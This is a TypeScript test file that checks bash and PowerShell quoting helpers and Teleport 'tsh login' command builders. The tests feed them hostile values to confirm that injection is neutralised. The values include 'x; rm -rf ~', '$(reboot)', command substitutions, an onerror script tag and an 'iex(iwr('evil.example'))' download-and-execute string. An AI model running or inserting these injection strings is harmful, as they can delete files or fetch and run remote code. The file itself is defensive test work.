import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { powershellQuote, shellFlag, shellQuote } from './shell-quote';
import { loginTargetFor, tshLoginCommand } from '@/shared/connect/tsh-commands';

describe('shell quoting of copied commands', () => {
  it('leaves plain words alone', () => {
    for (const word of ['orders-pg', 'alice@example.com', 'system:masters', 'a.b_c/d', 'x=y', '10.0.0.1:5432'])
      expect(shellQuote(word)).toBe(word);
  });

  it('single-quotes anything else, so a name cannot run a second command', () => {
    expect(shellQuote('')).toBe("''");
    expect(shellQuote('a b')).toBe("'a b'");
    expect(shellQuote('x; rm -rf ~')).toBe("'x; rm -rf ~'");
    expect(shellQuote('$(reboot)')).toBe("'$(reboot)'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote('<img src=x onerror=alert(1)>')).toBe("'<img src=x onerror=alert(1)>'");
    expect(shellQuote('кластер-тест')).toBe("'кластер-тест'");
    expect(shellFlag('db-user', 'read only')).toBe("--db-user='read only'");
  });
});

const HOSTILE = [
  "x(iex(iwr('evil.example')))",
  "it's",
  "'",
  "''\\''",
  'a)b',
  '$(echo PWNED)',
  '`echo PWNED`',
  '${HOME}',
  'a b\tc\nd',
  '"',
  '\\',
  ';|&<>*?~#!',
  '',
  '-n',
];

describe('bash quoting, as a real bash parses it', () => {
  const printed = (script: string) => execFileSync('bash', ['-c', script], { encoding: 'utf8' });

  it('hands the program exactly the value, as one argument', () => {
    for (const value of HOSTILE) expect(printed(`printf '[%s]' ${shellQuote(value)}`), value).toBe(`[${value}]`);
  });

  it('stays one argument inside "$( … )" (how the install commands fetch their scripts)', () => {
    for (const value of HOSTILE) expect(printed(`printf '<%s>' "$(printf '[%s]' ${shellQuote(value)})"`), value).toBe(`<[${value}]>`);
  });
});

describe('PowerShell quoting', () => {
  const QUOTES = /['\u2018\u2019\u201A\u201B]/;

  it('is always one verbatim string: single quotes around, every single-quote character doubled', () => {
    expect(powershellQuote('plain')).toBe("'plain'");
    expect(powershellQuote('')).toBe("''");
    expect(powershellQuote("x(iex(iwr('evil.example')))")).toBe("'x(iex(iwr(''evil.example'')))'");
    expect(powershellQuote('$env:PATH `n')).toBe("'$env:PATH `n'");
    expect(powershellQuote('a\u2019b\u2018c')).toBe("'a\u2019\u2019b\u2018\u2018c'");
    for (const value of HOSTILE) {
      const quoted = powershellQuote(value);
      expect(quoted.startsWith("'") && quoted.endsWith("'")).toBe(true);
      const inner = quoted.slice(1, -1);
      // Inside, a quote character only ever comes as a pair of the same one, and undoing the
      // pairs gives the value back.
      let decoded = '';
      for (let i = 0; i < inner.length; i++) {
        const c = inner[i]!;
        if (QUOTES.test(c)) {
          expect(inner[i + 1], value).toBe(c);
          i++;
        }
        decoded += c;
      }
      expect(decoded).toBe(value);
    }
  });
});

describe('tsh login', () => {
  const base = { proxyHost: 'teleport.example.com:443', authType: 'local', userName: 'alice', clusterId: 'root', proxyCluster: 'root' };

  it('names the local connector and user for a local user', () => {
    expect(tshLoginCommand(base)).toBe('tsh login --proxy=teleport.example.com:443 --auth=local --user=alice');
  });

  it('lets tsh pick the SSO connector, and adds a leaf cluster', () => {
    expect(tshLoginCommand({ ...base, authType: 'sso', clusterId: 'leaf-east' })).toBe(
      'tsh login --proxy=teleport.example.com:443 leaf-east',
    );
  });

  it('quotes a hostile user name', () => {
    expect(tshLoginCommand({ ...base, userName: 'bob; id' })).toBe(
      "tsh login --proxy=teleport.example.com:443 --auth=local --user='bob; id'",
    );
  });

  it('builds the target from the user context and the page host', () => {
    expect(loginTargetFor({ authType: 'sso', userName: 'bob' }, 'root', 'leaf', 'proxy:3080')).toEqual({
      proxyHost: 'proxy:3080',
      authType: 'sso',
      userName: 'bob',
      clusterId: 'leaf',
      proxyCluster: 'root',
    });
  });
});
